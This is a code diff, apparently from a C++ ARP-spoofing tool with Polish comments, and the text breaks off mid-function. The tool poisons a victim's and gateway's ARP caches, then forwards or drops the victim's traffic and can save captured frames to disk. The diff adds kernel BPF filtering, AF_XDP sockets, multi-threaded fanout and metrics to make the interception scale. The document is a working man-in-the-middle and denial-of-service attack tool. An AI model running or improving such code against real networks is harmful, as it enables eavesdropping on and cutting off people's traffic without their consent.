@@ -1,28 +1,52 @@
 #include "App.hpp"
 #include "PlatformAbstraction.hpp"
+#include "Ipv4Prefix.hpp"
+#include "BpfFilter.hpp"
 #include "NetworkHeaders.hpp"
 #include <cstring>
 #include <cstdint>
 #include <algorithm>
 #include <iostream>
+#include <fstream>
+#include <random>
 #ifdef _WIN32
 #include <winsock2.h>
 #else
 #include <arpa/inet.h>
 #endif
 #include <cstdio>
-#include <chrono>
-#include <thread>
+
+namespace {
+
+constexpr size_t MaxPacketsPerPoll = 256;   ///< Frames handled per wakeup before timers are checked
+constexpr uint32_t StatsIntervalMs = 10000; ///< Statistics log interval
+constexpr uint32_t MetricsRefreshMs = 1000; ///< Kernel drop refresh interval while metrics are served
+constexpr size_t ReceiveFrameSize = 65536;  ///< Receive buffer for sockets without their own (largest frame)
+constexpr size_t PipelineMemory = 8 << 20;  ///< Slot memory of the default pipeline queue (4096 x 2048 bytes)
+constexpr size_t PipelineMinSlots = 256;    ///< Fewest pipeline slots when frames are large
+
+} // namespace
 
 // Inicjalizacja statycznej zmiennej singleton
 std::unique_ptr<App> App::instance = nullptr;
 
-App::App() : stopFlag(false), isRunning(false) {
+App::App()
+	: App(PlatformFactory::createNetworkInterface(), [this]() { return PlatformFactory::createRawSocket(config.socketBackend); }) {
+}
+
+App::App(std::unique_ptr<NetworkInterface> networkInterface, RawSocketFactory socketFactory)
+	: networkInterface(std::move(networkInterface)), socketFactory(std::move(socketFactory)),
+	  receivePool(1, ReceiveFrameSize), stopFlag(false), isRunning(false) {
 	// Inicjalizacja platformowych komponentów
-	networkInterface = PlatformFactory::createNetworkInterface();
-	rawSocket = PlatformFactory::createRawSocket();
+	rawSocket = this->socketFactory ? this->socketFactory() : nullptr;
+	eventLoop = PlatformFactory::createEventLoop();
+	
+	// Odbiór bez alokacji także na platformach bez własnego bufora; pętla trzyma naraz jedną ramkę
+	if (rawSocket) {
+		rawSocket->setFramePool(&receivePool);
+	}
 	
-	if (!networkInterface || !rawSocket) {
+	if (!this->networkInterface || !rawSocket || !eventLoop) {
 		log(0, "Błąd: Nie można utworzyć komponentów platformowych");
 	}
 }
@@ -56,14 +80,17 @@ bool App::listInterfaces() {
 	for (size_t i = 0; i < interfaces.size(); ++i) {
 		const auto& iface = interfaces[i];
 		
-		IPAddress ipAddr(iface.ip);
 		IPAddress gatewayAddr(iface.gateway);
-		
-		std::string ipStr = ipAddr.toString();
 		std::string gatewayStr = gatewayAddr.isEmpty() ? "brak" : gatewayAddr.toString();
 		
 		log(2, std::to_string(i + 1) + ". " + iface.name + "\t" + iface.description);
-		log(2, "\t" + ipStr + "/" + std::to_string(iface.prefixLength) + " gw=" + gatewayStr);
+		if (iface.addresses.empty()) {
+			log(2, "\tbrak adresu IPv4 gw=" + gatewayStr);
+		}
+		for (const auto& address : iface.addresses) {
+			std::string ipStr = IPAddress(address.ip).toString();
+			log(2, "\t" + ipStr + "/" + std::to_string(address.prefixLength) + " gw=" + gatewayStr);
+		}
 	}
 	
 	return true;
@@ -90,17 +117,22 @@ bool App::configureAttack(const AttackConfig& config) {
 	const NetworkInterface::InterfaceInfo* targetInterface = nullptr;
 	
 	if (config.interfaceName.empty()) {
-		// Automatyczne wykrycie interfejsu
+		// Automatyczne wykrycie interfejsu - wybierz najdłuższy pasujący prefiks
+		Ipv4Prefix bestNetwork;
 		for (const auto& iface : interfaces) {
-			if (!iface.ip.empty() && !iface.gateway.empty()) {
-				IPAddress interfaceIp(iface.ip);
-				IPAddress gatewayIp(iface.gateway);
+			if (iface.gateway.empty()) {
+				continue;
+			}
+			
+			// Interfejs może mieć kilka adresów - sprawdź każdy z nich
+			for (const auto& address : iface.addresses) {
+				Ipv4Prefix network(IPAddress(address.ip), address.prefixLength);
 				
 				// Sprawdź czy ofiara jest w tej samej sieci
-				IPAddress mask = IPAddress::fromPrefixLength(iface.prefixLength);
-				if (config.victimIp.isInSameNetwork(interfaceIp, mask)) {
+				if (network.contains(config.victimIp) &&
+				    (!targetInterface || network.isMoreSpecificThan(bestNetwork))) {
 					targetInterface = &iface;
-					break;
+					bestNetwork = network;
 				}
 			}
 		}
@@ -127,23 +159,72 @@ bool App::configureAttack(const AttackConfig& config) {
 		attackInfo.targetIp = IPAddress(targetInterface->gateway);
 	}
 	
-	// Rozstrzygnij adresy MAC
+	// Rozstrzygnij adresy MAC ofiary i celu jednocześnie
 	log(2, "Rozstrzyganie adresów MAC...");
 	
-	attackInfo.victimMac = networkInterface->resolveMacAddress(
-		attackInfo.interfaceName, attackInfo.victimIp.toBytes());
-	if (attackInfo.victimMac.empty()) {
+	// Kolejne konfiguracje czytają tablicę sąsiadów z pamięci, aktualizowanej zdarzeniami jądra
+	if (!networkInterface->enableNeighbourCache()) {
+		log(2, "Pamięć podręczna tablicy sąsiadów niedostępna - każde rozstrzyganie odpytuje system");
+	}
+	
+	NetworkInterface::ResolverConfig resolverConfig;
+	resolverConfig.timeoutMs = config.resolveTimeoutMs;
+	resolverConfig.maxAttempts = config.resolveAttempts;
+	
+	auto macs = networkInterface->resolveMacAddresses(
+		attackInfo.interfaceName, {attackInfo.victimIp.toBytes(), attackInfo.targetIp.toBytes()},
+		resolverConfig);
+	attackInfo.victimMac = macs[0];
+	attackInfo.targetMac = macs[1];
+	
+	if (attackInfo.victimMac.isEmpty()) {
 		log(0, "Błąd: Nie można rozstrzygnąć adresu MAC ofiary");
 		return false;
 	}
 	
-	attackInfo.targetMac = networkInterface->resolveMacAddress(
-		attackInfo.interfaceName, attackInfo.targetIp.toBytes());
-	if (attackInfo.targetMac.empty()) {
+	if (attackInfo.targetMac.isEmpty()) {
 		log(0, "Błąd: Nie można rozstrzygnąć adresu MAC celu");
 		return false;
 	}
 	
+	log(2, "MAC ofiary: " + attackInfo.victimMac.toString() + ", MAC celu: " + attackInfo.targetMac.toString());
+	
+	// Inny rodzaj gniazda (AF_XDP) - utwórz je od nowa z fabryki
+	if (config.socketBackend != socketBackend) {
+		rawSocket = socketFactory();
+		if (!rawSocket) {
+			log(0, "Błąd: Wybrany rodzaj gniazda (AF_XDP) nie jest dostępny na tej platformie");
+			return false;
+		}
+		rawSocket->setFramePool(&receivePool);
+		socketBackend = config.socketBackend;
+	}
+	
+	// Pierścień odbiorczy musi być ustawiony przed otwarciem gniazda
+	if (config.useReceiveRing && !rawSocket->setReceiveRing(config.ringConfig)) {
+		log(1, "Pierścień odbiorczy niedostępny - używam zwykłego odbioru");
+	}
+	
+	// Ramki scalone przez GRO przekazywane w całości, jądro dzieli je przy wysyłaniu (GSO)
+	if (config.segmentationOffload && !rawSocket->setSegmentationOffload()) {
+		log(1, "Odciążanie segmentacji (GSO) niedostępne - ramki do rozmiaru MTU");
+	}
+	
+	// Znaczniki czasu odbioru z jądra - pomiar opóźnienia dodanego przez atak
+	if (config.measureDelay && !rawSocket->setReceiveTimestamps()) {
+		log(1, "Znaczniki czasu odbioru niedostępne - opóźnienie nie będzie mierzone");
+	}
+	
+	// Gniazda grupy fanout dzielą między siebie odbierane ramki
+	uint16_t fanoutGroup = 0;
+	if (config.workers > 1) {
+		fanoutGroup = static_cast<uint16_t>(std::random_device()());
+		if (!rawSocket->setFanout(fanoutGroup, config.fanoutMode)) {
+			log(0, "Błąd: Wiele wątków odbioru (fanout) nie jest obsługiwane na tej platformie");
+			return false;
+		}
+	}
+	
 	// Otwórz raw socket
 	if (!rawSocket->open(attackInfo.interfaceName, true)) {
 		log(0, "Błąd: Nie można otworzyć raw socket.");
@@ -158,6 +239,61 @@ bool App::configureAttack(const AttackConfig& config) {
 		return false;
 	}
 	
+	// Filtr w jądrze - do programu trafiają tylko ramki, które handlePacket może przekazać
+	std::vector<BpfInstruction> filterProgram;
+	bool filterAttached = false;
+	if (config.kernelFilter) {
+		BpfFilterBuilder filter;
+		filter.matchEtherType(ETHERTYPE_IP);
+		filter.matchDestinationMac(attackInfo.myMac);
+		filter.matchSourceMac({attackInfo.victimMac, attackInfo.targetMac});
+		filter.matchIpAddress(attackInfo.victimIp);
+		filterProgram = filter.build();
+		
+		filterAttached = rawSocket->attachFilter(filterProgram);
+		if (!filterAttached) {
+			log(1, "Filtr BPF niedostępny - filtrowanie tylko w programie");
+		}
+	}
+	
+	// Gniazdo AF_XDP zabiera ramki jądru, które dostaje tylko to, czego filtr nie przyjął
+	if (socketBackend != PlatformFactory::SocketBackend::Default && !filterAttached) {
+		log(1, "Gniazdo AF_XDP bez filtra przejmuje cały ruch interfejsu, także ruch tego komputera");
+	}
+	
+	// Pozostałe gniazda grupy fanout, po jednym na wątek
+	workerSockets.clear();
+	for (unsigned int i = 1; i < config.workers; ++i) {
+		auto socket = socketFactory();
+		if (!socket) {
+			log(0, "Błąd: Nie można utworzyć gniazda wątku " + std::to_string(i));
+			workerSockets.clear();
+			rawSocket->close();
+			return false;
+		}
+		if (config.useReceiveRing) {
+			socket->setReceiveRing(config.ringConfig);
+		}
+		socket->setFanout(fanoutGroup, config.fanoutMode);
+		if (config.segmentationOffload) {
+			socket->setSegmentationOffload();
+		}
+		if (config.measureDelay) {
+			socket->setReceiveTimestamps();
+		}
+		
+		if (!socket->open(attackInfo.interfaceName, false)) {
+			log(0, "Błąd: Nie można otworzyć gniazda wątku " + std::to_string(i));
+			workerSockets.clear();
+			rawSocket->close();
+			return false;
+		}
+		if (config.kernelFilter) {
+			socket->attachFilter(filterProgram);
+		}
+		workerSockets.push_back(std::move(socket));
+	}
+	
 	log(2, "Konfiguracja ataku zakończona pomyślnie");
 	return true;
 }
@@ -192,59 +328,162 @@ bool App::startAttack() {
 	isRunning = true;
 	stopFlag = false;
 	attackInfo.isActive = true;
-	attackInfo.packetsSent = 0;
-	attackInfo.packetsReceived = 0;
-	attackInfo.packetsDropped = 0;
 	
-	auto nextArpTime = std::chrono::steady_clock::now();
-	auto nextStatsTime = std::chrono::steady_clock::now();
+	// Liczniki poprzedniego ataku są usuwane razem z wątkami, które je zapisywały
+	pipeline.reset();
+	workers.clear();
+	statistics.clear();
+	controlStatistics = &statistics.createBlock();
+	
 	int arpInterval = config.arpInterval > 0 ? config.arpInterval : 2;
 	
-	while (!stopFlag) {
-		auto now = std::chrono::steady_clock::now();
-		
-		// Wysyłaj pakiety ARP w określonych interwałach
-		if (now >= nextArpTime) {
-			nextArpTime = now + std::chrono::seconds(arpInterval);
-			
-			if (!rawSocket->sendPacket(arpSpoofVictim)) {
-				log(1, "Błąd wysyłania pakietu ARP do ofiary");
-			} else {
-				attackInfo.packetsSent++;
-			}
-			
-			if (!config.oneWayMode) {
-				if (!rawSocket->sendPacket(arpSpoofTarget)) {
-					log(1, "Błąd wysyłania pakietu ARP do celu");
-				} else {
-					attackInfo.packetsSent++;
-				}
-			}
+	// Wysyłaj pakiety ARP w określonych interwałach (pierwszy raz od razu)
+	eventLoop->addTimer(static_cast<uint32_t>(arpInterval) * 1000, [&]() {
+		uint64_t sendStart = TrafficStatistics::now();
+		if (!rawSocket->sendPacket(arpSpoofVictim)) {
+			log(1, "Błąd wysyłania pakietu ARP do ofiary");
+		} else {
+			controlStatistics->addArpSent();
+			controlStatistics->addArpSendTime(TrafficStatistics::now() - sendStart);
 		}
 		
-		// Wyświetlaj statystyki co 10 sekund
-		if (now >= nextStatsTime) {
-			nextStatsTime = now + std::chrono::seconds(10);
-			if (config.dropMode) {
-				log(2, "Statystyki: Wysłano " + std::to_string(attackInfo.packetsSent) + 
-				     " ARP, Odebrano " + std::to_string(attackInfo.packetsReceived) + 
-				     ", Porzucono " + std::to_string(attackInfo.packetsDropped) + " pakietów");
+		if (!config.oneWayMode) {
+			sendStart = TrafficStatistics::now();
+			if (!rawSocket->sendPacket(arpSpoofTarget)) {
+				log(1, "Błąd wysyłania pakietu ARP do celu");
 			} else {
-				log(2, "Statystyki: Wysłano " + std::to_string(attackInfo.packetsSent) + 
-				     " ARP, Odebrano " + std::to_string(attackInfo.packetsReceived) + " pakietów");
+				controlStatistics->addArpSent();
+				controlStatistics->addArpSendTime(TrafficStatistics::now() - sendStart);
 			}
 		}
+	});
+			
+	// Wyświetlaj statystyki co 10 sekund
+	eventLoop->addTimer(StatsIntervalMs, [this]() {
+		logStatistics();
+	});
 		
-		// Próba odbioru pakietów
-		auto receivedPacket = rawSocket->receivePacket();
-		
-		if (!receivedPacket.empty()) {
-			handlePacket(receivedPacket);
-			attackInfo.packetsReceived++;
+	// Ctrl+C i SIGTERM przerywają pętlę, a nie proces
+	eventLoop->addStopSignals([this]() {
+		requestStop();
+	});
+	
+	// Zapis przechwyconych ramek - dysk obsługuje osobny wątek, tworzony po zablokowaniu sygnałów
+	bool captureFailed = false;
+	capture.reset();
+	if (!config.capture.path.empty()) {
+		CaptureWriter::Config captureConfig = config.capture;
+		captureConfig.interfaceName = attackInfo.interfaceName;
+		auto writer = std::make_unique<CaptureWriter>();
+		if (writer->open(captureConfig)) {
+			log(2, "Zapis ramek do " + writer->fileName(1));
+			capture = std::move(writer);
+		} else {
+			log(0, "Błąd: Nie można utworzyć pliku przechwytywania " + captureConfig.path);
+			captureFailed = true;
+		}
+	}
+	
+	bool socketWatched = false;
+	if (config.workers > 1) {
+		// Każde gniazdo grupy fanout obsługuje własny wątek
+		if (!ForwardingPipeline::pinCurrentThread(config.controlCpu)) {
+			log(1, "Nie można przypiąć wątku sterującego do CPU " + std::to_string(config.controlCpu));
+		}
+		std::vector<RawSocket*> sockets{rawSocket.get()};
+		for (auto& socket : workerSockets) {
+			sockets.push_back(socket.get());
 		}
 		
-		// Krótka przerwa aby nie obciążać CPU
-		std::this_thread::sleep_for(std::chrono::milliseconds(1));
+		workers.clear();
+		socketWatched = true;
+		for (size_t i = 0; i < sockets.size() && socketWatched; ++i) {
+			int cpu = config.workerCpu < 0 ? -1 : config.workerCpu + static_cast<int>(i);
+			workers.push_back(std::make_unique<ForwardingWorker>(*sockets[i],
+				[this](ByteSpan frame, TrafficStatistics::Direction& direction) {
+					return classifyPacket(frame, direction);
+				}, statistics, cpu));
+			socketWatched = workers.back()->start();
+		}
+		log(2, "Wątki odbioru (fanout): " + std::to_string(workers.size()));
+	} else if (config.pipelined) {
+		// Wątki odbioru i wysyłania; ten wątek obsługuje tylko ARP, statystyki i sygnały
+		if (!ForwardingPipeline::pinCurrentThread(config.controlCpu)) {
+			log(1, "Nie można przypiąć wątku sterującego do CPU " + std::to_string(config.controlCpu));
+		}
+		// Sloty mieszczą największą ramkę gniazda (jumbo, GRO); przy dużych slotach jest ich mniej
+		ForwardingPipeline::Config pipelineConfig = config.pipeline;
+		size_t maxFrameSize = rawSocket->getMaxFrameSize();
+		if (maxFrameSize > pipelineConfig.slotSize) {
+			pipelineConfig.slotSize = static_cast<uint32_t>(maxFrameSize);
+			size_t slots = std::max<size_t>(PipelineMinSlots, PipelineMemory / maxFrameSize);
+			pipelineConfig.queueSize = static_cast<uint32_t>(std::min<size_t>(pipelineConfig.queueSize, slots));
+			log(2, "Kolejka: " + std::to_string(pipelineConfig.queueSize) + " slotów po " +
+			     std::to_string(pipelineConfig.slotSize) + " bajtów");
+		}
+		pipeline = std::make_unique<ForwardingPipeline>(*rawSocket,
+			[this](ByteSpan frame, TrafficStatistics::Direction& direction) {
+				return classifyPacket(frame, direction);
+			}, statistics, pipelineConfig);
+		socketWatched = pipeline->start();
+	} else {
+		// Odbierz oczekujące pakiety (z pierścienia bez kopiowania) gdy gniazdo jest gotowe
+		socketWatched = eventLoop->addSocket(*rawSocket, [this]() {
+			receiveWakeTime = TrafficStatistics::now();
+			size_t received = rawSocket->receivePackets([this](ByteSpan frame) {
+				handlePacket(frame);
+			}, MaxPacketsPerPoll);
+			controlStatistics->addLoopTime(TrafficStatistics::now() - receiveWakeTime);
+			return received > 0;
+		});
+	}
+	
+	// Punkt końcowy metryk ma własny wątek i tylko czyta liczniki
+	bool metricsFailed = false;
+	if (socketWatched && !config.metricsAddress.empty()) {
+		metricsServer = std::make_unique<MetricsServer>([this]() {
+			return renderMetrics();
+		});
+		if (config.measureDelay) {
+			metricsServer->addPage("/latency", [this]() {
+				return renderLatency();
+			});
+		}
+		if (metricsServer->start(config.metricsAddress)) {
+			log(2, "Metryki OpenMetrics dostępne pod adresem " + config.metricsAddress);
+			
+			// Utracone ramki są odczytywane z gniazd częściej niż log statystyk
+			eventLoop->addTimer(MetricsRefreshMs, [this]() {
+				updateLostPackets();
+			});
+		} else {
+			log(0, "Błąd: Nie można uruchomić punktu końcowego metryk " + config.metricsAddress);
+			metricsFailed = true;
+		}
+	}
+	
+	// Pętla śpi do nadejścia pakietu, upływu timera lub żądania zatrzymania
+	bool loopFailed = false;
+	if (!socketWatched) {
+		log(0, "Błąd: Nie można oczekiwać na pakiety z gniazda lub przypiąć wątków do CPU");
+		loopFailed = true;
+	} else if (metricsFailed || captureFailed) {
+		loopFailed = true;
+	} else if (!eventLoop->run()) {
+		log(0, "Błąd: Oczekiwanie na zdarzenia nie powiodło się");
+		loopFailed = true;
+	}
+	eventLoop->clear();
+	
+	metricsServer.reset();
+	stopThreads();
+	
+	// Przywróć prawidłowe wpisy ARP
+	stopAttack();
+	
+	if (loopFailed) {
+		attackInfo.isActive = false;
+		return false;
 	}
 	
 	isRunning = false;
@@ -276,20 +515,60 @@ void App::stopAttack() {
 		}
 	}
 	
+	stopThreads();
+	updateLostPackets();
 	rawSocket->close();
+	if (capture) {
+		capture->close();
+		CaptureWriter::Statistics captured = capture->getStatistics();
+		log(2, "Zapisano ramek: " + std::to_string(captured.frames) + " w plikach: " + std::to_string(captured.files) +
+		       ", utracono: " + std::to_string(captured.dropped));
+		if (captured.writeErrors != 0) {
+			log(0, "Błąd: Zapis pliku przechwytywania nie powiódł się " + std::to_string(captured.writeErrors) + " razy");
+		}
+		capture.reset();
+	}
+	for (auto& socket : workerSockets) {
+		socket->close();
+	}
 	isRunning = false;
 	
 	// Wyświetl końcowe statystyki
+	TrafficStatistics::Snapshot snapshot = statistics.snapshot();
+	const TrafficStatistics::DirectionCounters& fromVictim = snapshot.direction(TrafficStatistics::Direction::VictimToTarget);
+	const TrafficStatistics::DirectionCounters& fromTarget = snapshot.direction(TrafficStatistics::Direction::TargetToVictim);
 	if (config.dropMode) {
 		log(2, "Atak zakończony. Statystyki końcowe:");
-		log(2, "  - Wysłano pakietów ARP: " + std::to_string(attackInfo.packetsSent));
-		log(2, "  - Odebrano pakietów: " + std::to_string(attackInfo.packetsReceived));
-		log(2, "  - Porzucono pakietów: " + std::to_string(attackInfo.packetsDropped));
-		log(2, "  - Internet został odcięty na " + std::to_string(attackInfo.packetsDropped) + " pakietów");
+		log(2, "  - Wysłano pakietów ARP: " + std::to_string(snapshot.arpSent));
+		log(2, "  - Odebrano pakietów: " + std::to_string(snapshot.received));
+		log(2, "  - Porzucono pakietów: " + std::to_string(snapshot.dropped));
+		log(2, "  - Internet został odcięty na " + std::to_string(snapshot.dropped) + " pakietów");
 	} else {
 		log(2, "Atak zakończony. Statystyki końcowe:");
-		log(2, "  - Wysłano pakietów ARP: " + std::to_string(attackInfo.packetsSent));
-		log(2, "  - Przekazano pakietów: " + std::to_string(attackInfo.packetsReceived));
+		log(2, "  - Wysłano pakietów ARP: " + std::to_string(snapshot.arpSent));
+		log(2, "  - Przekazano pakietów: " + std::to_string(snapshot.forwarded) + 
+		     " (" + std::to_string(snapshot.forwardedBytes) + " bajtów)");
+	}
+	log(2, "  - Ofiara -> cel: " + std::to_string(fromVictim.frames) + " pakietów, " + 
+	     std::to_string(fromVictim.bytes) + " bajtów");
+	log(2, "  - Cel -> ofiara: " + std::to_string(fromTarget.frames) + " pakietów, " + 
+	     std::to_string(fromTarget.bytes) + " bajtów");
+	if (snapshot.forwardLatency.total > 0) {
+		log(2, "  - Opóźnienie przekazania: p50 " + std::to_string(snapshot.forwardLatency.valueAtPercentile(50.0)) + 
+		     " ns, p99 " + std::to_string(snapshot.forwardLatency.valueAtPercentile(99.0)) + 
+		     " ns, maks. " + std::to_string(snapshot.forwardLatency.max) + " ns");
+	}
+	if (snapshot.sendFailures > 0) {
+		log(2, "  - Błędy wysyłania: " + std::to_string(snapshot.sendFailures));
+	}
+	if (snapshot.kernelDrops > 0) {
+		log(2, "  - Utracono pakietów (pełny bufor odbiorczy): " + std::to_string(snapshot.kernelDrops));
+	}
+	if (truncatedFrames > 0) {
+		log(2, "  - Pominięto ramek większych niż bufor odbiorczy: " + std::to_string(truncatedFrames));
+	}
+	if (config.measureDelay) {
+		logAddedDelay(snapshot.addedDelay);
 	}
 	
 	log(2, "Atak zatrzymany");
@@ -297,78 +576,222 @@ void App::stopAttack() {
 
 std::vector<uint8_t> App::createArpPacket(
     const IPAddress& victimIp,
-    const std::vector<uint8_t>& victimMac,
+    const MacAddress& victimMac,
     const IPAddress& spoofedIp,
-    const std::vector<uint8_t>& myMac
+    const MacAddress& myMac
 ) {
-    std::vector<uint8_t> packet(42); // Ethernet header (14) + ARP header (28)
-
-    // Ethernet header
-    EthernetHeader* eth = reinterpret_cast<EthernetHeader*>(packet.data());
-    std::memcpy(eth->dest, victimMac.data(), 6);
-    std::memcpy(eth->src, myMac.data(), 6);
-    eth->type = htons(0x0806); // ARP
-
-    // ARP header
-    ArpHeader* arp = reinterpret_cast<ArpHeader*>(packet.data() + 14);
-    arp->hardware_type = htons(1); // Ethernet
-    arp->protocol_type = htons(0x0800); // IPv4
-    arp->hardware_size = 6;
-    arp->protocol_size = 4;
-    arp->opcode = htons(2); // ARP Reply
-
-    std::memcpy(arp->sender_mac, myMac.data(), 6);
-    std::memcpy(arp->sender_ip, spoofedIp.toBytes().data(), 4);
-    std::memcpy(arp->target_mac, victimMac.data(), 6);
-    std::memcpy(arp->target_ip, victimIp.toBytes().data(), 4);
-
-    return packet;
+    ArpFrame frame = makeArpFrame(ARP_OP_REPLY, victimMac, myMac, spoofedIp, victimMac, victimIp);
+    return std::vector<uint8_t>(frame.begin(), frame.end());
 }
 
-void App::handlePacket(const std::vector<uint8_t>& data) {
-	if (data.size() < sizeof(EthernetHeader) + sizeof(IpHeader)) {
-		return;
+ForwardingPipeline::Action App::classifyPacket(ByteSpan data, TrafficStatistics::Direction& direction) {
+	EthernetView eth(data);
+	Ipv4View ip = eth ? Ipv4View(eth.payload()) : Ipv4View();
+	if (!ip) {
+		return ForwardingPipeline::Action::Ignore;
 	}
-	
-	EthernetHeader* eth = reinterpret_cast<EthernetHeader*>(const_cast<uint8_t*>(data.data()));
-	if (htons(eth->type) != 0x0800) {
-		return; // Nie IP
+	if (eth.etherType() != ETHERTYPE_IP) {
+		return ForwardingPipeline::Action::Ignore; // Nie IP
 	}
 	
 	// Sprawdź czy pakiet pochodzi od ofiary lub celu
-	if ((std::memcmp(eth->src, attackInfo.victimMac.data(), 6) != 0 && 
-	     std::memcmp(eth->src, attackInfo.targetMac.data(), 6) != 0) || 
-	    std::memcmp(eth->dest, attackInfo.myMac.data(), 6) != 0) {
-		return;
+	MacAddress source = eth.source();
+	bool fromVictim = source == attackInfo.victimMac;
+	if ((!fromVictim && source != attackInfo.targetMac) || eth.destination() != attackInfo.myMac) {
+		return ForwardingPipeline::Action::Ignore;
 	}
 	
-	IpHeader* ip = reinterpret_cast<IpHeader*>(const_cast<uint8_t*>(data.data() + sizeof(EthernetHeader)));
-	IPAddress srcIp(reinterpret_cast<uint8_t*>(&ip->src));
-	IPAddress dstIp(reinterpret_cast<uint8_t*>(&ip->dest));
+	if (ip.source() != attackInfo.victimIp && ip.destination() != attackInfo.victimIp) {
+		return ForwardingPipeline::Action::Ignore;
+	}
+	direction = fromVictim ? TrafficStatistics::Direction::VictimToTarget
+	                       : TrafficStatistics::Direction::TargetToVictim;
 	
-	if (srcIp != attackInfo.victimIp && dstIp != attackInfo.victimIp) {
-		return;
+	// Zapisz ramkę w postaci odebranej, przed podmianą adresów
+	if (capture) {
+		capture->write(ConstByteSpan(data), TrafficStatistics::systemNow());
 	}
 	
 	// W trybie dropMode porzuć pakiet zamiast go przekazywać
 	if (config.dropMode) {
-		attackInfo.packetsDropped++;
-		return; // Porzuć pakiet - nie przekazuj dalej
+		return ForwardingPipeline::Action::Drop;
 	}
 	
-	// Przekaż pakiet (tryb normalny)
-	std::vector<uint8_t> newPacket = data;
-	EthernetHeader* newEth = reinterpret_cast<EthernetHeader*>(newPacket.data());
+	// Przekaż pakiet (tryb normalny) - adresy MAC podmieniane w miejscu,
+	// w buforze odbiorczym lub slocie pierścienia, bez kopii i alokacji
+	if (fromVictim) {
+		eth.setDestination(attackInfo.targetMac);
+	} else {
+		eth.setDestination(attackInfo.victimMac);
+	}
+	eth.setSource(attackInfo.myMac);
+	return ForwardingPipeline::Action::Forward;
+}
 	
-	if (std::memcmp(eth->src, attackInfo.victimMac.data(), 6) == 0) {
-		std::memcpy(newEth->dest, attackInfo.targetMac.data(), 6);
-		std::memcpy(newEth->src, attackInfo.myMac.data(), 6);
+void App::handlePacket(ByteSpan data) {
+	controlStatistics->addReceived(data.size());
+	
+	TrafficStatistics::Direction direction = TrafficStatistics::Direction::VictimToTarget;
+	switch (classifyPacket(data, direction)) {
+	case ForwardingPipeline::Action::Ignore:
+		break;
+	case ForwardingPipeline::Action::Drop:
+		controlStatistics->addIntercepted(direction, data.size());
+		controlStatistics->addDropped();
+		break; // Porzuć pakiet - nie przekazuj dalej
+	case ForwardingPipeline::Action::Forward: {
+		controlStatistics->addIntercepted(direction, data.size());
+		ConstByteSpan frame(data);
+		if (rawSocket->sendBatchWithOffload(&frame, rawSocket->receiveOffload(), 1) == 1) {
+			controlStatistics->addForwarded(data.size());
+			controlStatistics->addLatency(TrafficStatistics::now() - receiveWakeTime);
+			uint64_t receiveTime = rawSocket->receiveTimestamp();
+			if (receiveTime != 0) {
+				uint64_t sentTime = TrafficStatistics::systemNow();
+				if (sentTime > receiveTime) {
+					controlStatistics->addAddedDelay(sentTime - receiveTime);
+				}
+			}
+		} else {
+			controlStatistics->addSendFailure();
+		}
+		break;
+	}
+	}
+}
+
+void App::updateLostPackets() {
+	RawSocket::Statistics socketStatistics;
+	if (controlStatistics && rawSocket && rawSocket->getStatistics(socketStatistics)) {
+		uint64_t drops = socketStatistics.drops;
+		truncatedFrames = socketStatistics.truncated;
+		for (auto& socket : workerSockets) {
+			if (socket->getStatistics(socketStatistics)) {
+				drops += socketStatistics.drops;
+				truncatedFrames += socketStatistics.truncated;
+			}
+		}
+		controlStatistics->setKernelDrops(drops);
+	}
+}
+
+void App::stopThreads() {
+	if (pipeline) {
+		pipeline->stop();
+	}
+	for (auto& worker : workers) {
+		worker->stop();
+	}
+}
+
+void App::logStatistics() {
+	updateLostPackets();
+	TrafficStatistics::Snapshot snapshot = statistics.snapshot();
+	if (config.dropMode) {
+		log(2, "Statystyki: Wysłano " + std::to_string(snapshot.arpSent) + 
+		     " ARP, Odebrano " + std::to_string(snapshot.received) + 
+		     ", Porzucono " + std::to_string(snapshot.dropped) + " pakietów");
 	} else {
-		std::memcpy(newEth->dest, attackInfo.victimMac.data(), 6);
-		std::memcpy(newEth->src, attackInfo.myMac.data(), 6);
+		log(2, "Statystyki: Wysłano " + std::to_string(snapshot.arpSent) + 
+		     " ARP, Odebrano " + std::to_string(snapshot.received) + 
+		     ", Przekazano " + std::to_string(snapshot.forwarded) + " pakietów");
+	}
+	if (snapshot.kernelDrops > 0) {
+		log(1, "Utracono " + std::to_string(snapshot.kernelDrops) + " pakietów (pełny bufor odbiorczy)");
+	}
+	if (snapshot.sendFailures > 0) {
+		log(1, "Nie wysłano " + std::to_string(snapshot.sendFailures) + " pakietów (błędy wysyłania)");
+	}
+	if (truncatedFrames > 0) {
+		log(1, "Pominięto " + std::to_string(truncatedFrames) + " ramek większych niż bufor odbiorczy" +
+		     (config.segmentationOffload ? "" : " (ramki GRO - użyj --gso)"));
+	}
+	for (size_t i = 0; i < workers.size(); ++i) {
+		TrafficStatistics::Snapshot worker = workers[i]->getStatistics();
+		log(2, "  Wątek " + std::to_string(i) + ": odebrano " + std::to_string(worker.received) + 
+		     ", przekazano " + std::to_string(worker.forwarded) + ", błędy wysyłania " + 
+		     std::to_string(worker.sendFailures));
+	}
+	if (pipeline) {
+		ForwardingPipeline::Counters counters = pipeline->getCounters();
+		log(2, "Kolejka: głębokość " + std::to_string(counters.queueDepth) + 
+		     " (maks. " + std::to_string(counters.maxQueueDepth) + "), przepełnienia " + 
+		     std::to_string(counters.queueFull));
+	}
+}
+
+void App::logAddedDelay(const LatencyHistogram::Distribution& delay) {
+	if (delay.total == 0) {
+		log(1, "Brak pomiarów opóźnienia (brak znaczników czasu odbioru lub przekazanych pakietów)");
+		return;
 	}
 	
-	rawSocket->sendPacket(newPacket);
+	// Wartości w mikrosekundach, błąd względny kubełka poniżej 3%
+	auto microseconds = [](uint64_t nanoseconds) {
+		char text[32];
+		std::snprintf(text, sizeof(text), "%.1f", static_cast<double>(nanoseconds) / 1000.0);
+		return std::string(text);
+	};
+	log(2, "  - Opóźnienie dodane (znacznik jądra -> wysłanie, " + std::to_string(delay.total) + " pakietów): p50 " +
+	     microseconds(delay.valueAtPercentile(50.0)) + " us, p90 " + microseconds(delay.valueAtPercentile(90.0)) +
+	     " us, p99 " + microseconds(delay.valueAtPercentile(99.0)) + " us, p99.9 " +
+	     microseconds(delay.valueAtPercentile(99.9)) + " us, maks. " + microseconds(delay.max) + " us");
+	
+	if (!config.delayFile.empty()) {
+		std::ofstream file(config.delayFile);
+		file << delay.format();
+		if (!file) {
+			log(0, "Błąd: Nie można zapisać rozkładu opóźnienia do " + config.delayFile);
+		} else {
+			log(2, "  - Rozkład opóźnienia zapisano do " + config.delayFile);
+		}
+	}
+}
+
+std::string App::renderMetrics() const {
+	TrafficStatistics::Snapshot snapshot = statistics.snapshot();
